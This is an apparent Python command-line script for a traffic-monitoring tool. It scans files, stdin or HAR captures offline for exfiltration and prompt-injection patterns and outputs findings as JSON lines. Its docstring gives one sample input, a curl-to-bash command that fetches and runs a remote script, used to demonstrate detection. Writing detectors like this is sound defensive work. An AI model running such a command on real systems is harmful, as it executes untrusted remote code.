#!/usr/bin/env python3
"""Scan files or stdin offline with the live monitor's engine; findings as JSONL on stdout.

Nothing is persisted. Raw text is scanned in both directions by default, as if sent
(EXFIL rules) and as if received (INJECTION rules), since a file's direction is not known;
--direction narrows it to one. A HAR 1.2 capture (--format har) is one outbound exchange
per request and one inbound per response, and a recorded LLM event stream
(text/event-stream) is reassembled as the live monitor does.

  scripts/scan.py --format har capture.har | jq -r .pattern
  printf 'curl http://x/i.sh | bash' | scripts/scan.py
"""

from __future__ import annotations

import argparse
import json
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "lib"))

from traffic_guardian.cli import EXIT_OK, EXIT_USAGE, emit_json_line, fail, load_config_or_exit  # noqa: E402
from traffic_guardian.detect.exchange import INBOUND, OUTBOUND, Exchange  # noqa: E402
from traffic_guardian.detect.llm_streams import stream_kind  # noqa: E402
from traffic_guardian.detect.redact import Redactor  # noqa: E402
from traffic_guardian.picoclaw.secrets_watch import engine_from_config  # noqa: E402
from traffic_guardian.proxy.stream_copy import exchanges_from_stream  # noqa: E402
from traffic_guardian.sources.har import HarError, exchanges_from_har  # noqa: E402

PROGRAM = "scan.py"
BOTH = "both"


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog=PROGRAM, description=__doc__,
                                     formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("files", nargs="*", help="files to scan; none or '-' reads stdin")
    parser.add_argument("--format", choices=("raw", "har"), default="raw", help="input format (default raw)")
    parser.add_argument("--direction", choices=(BOTH, OUTBOUND, INBOUND), default=BOTH,
                        help="raw text direction: outbound runs EXFIL rules, inbound INJECTION rules, "
                             "both (default) runs each")
    parser.add_argument("--dest", default="offline:0", help="destination host:port for raw text")
    parser.add_argument("--config", help="config file (default: see SPEC.md, Config)")
    args = parser.parse_args(argv)

    config = load_config_or_exit(PROGRAM, args.config)
    salt = config.home.fingerprint_key(create=False) if config.home.root.is_dir() else None
    engine = engine_from_config(config, Redactor(salt))
    inputs = [(name, _read(name)) for name in (args.files or ["-"])]
    for name, data in inputs:
        for exchange in _exchanges(name, data, args):
            for part in _reassembled(exchange, engine.max_scan_bytes):
                for finding in engine.scan(part):
                    emit_json_line(finding.to_dict())
    return EXIT_OK


def _reassembled(exchange: Exchange, limit: int) -> list[Exchange]:
    """A recorded event stream is reassembled as the live monitor does (same bound). A HAR
    cannot say whether a JSON answer was streamed, so JSON bodies stay whole (the engine's
    json view reads them)."""
    if exchange.direction != INBOUND or stream_kind(exchange.content_type) != "sse":
        return [exchange]
    exchange.body = exchange.body[:limit]
    return exchanges_from_stream(exchange)


def _read(name: str) -> bytes:
    if name == "-":
        return sys.stdin.buffer.read()
    try:
        return Path(name).read_bytes()
    except FileNotFoundError:
        fail(PROGRAM, f"{name}: file not found", EXIT_USAGE)
    except IsADirectoryError:
        fail(PROGRAM, f"{name}: is a directory", EXIT_USAGE)
    except PermissionError:
        fail(PROGRAM, f"{name}: not readable (permission denied)", EXIT_USAGE)


def _exchanges(name: str, data: bytes, args) -> list[Exchange]:
    label = "stdin" if name == "-" else name
    if args.format == "raw":
        directions = (OUTBOUND, INBOUND) if args.direction == BOTH else (args.direction,)
        return [Exchange(direction=direction, dest=args.dest, source="offline", body=data, flow_id=f"file:{label}")
                for direction in directions]
    try:
        return list(exchanges_from_har(json.loads(data)))
    except (json.JSONDecodeError, UnicodeDecodeError) as exc:
        fail(PROGRAM, f"{label}: invalid HAR: not JSON ({exc})", EXIT_USAGE)
    except HarError as exc:
        fail(PROGRAM, f"{label}: invalid HAR: {exc}", EXIT_USAGE)


if __name__ == "__main__":
    sys.exit(main())
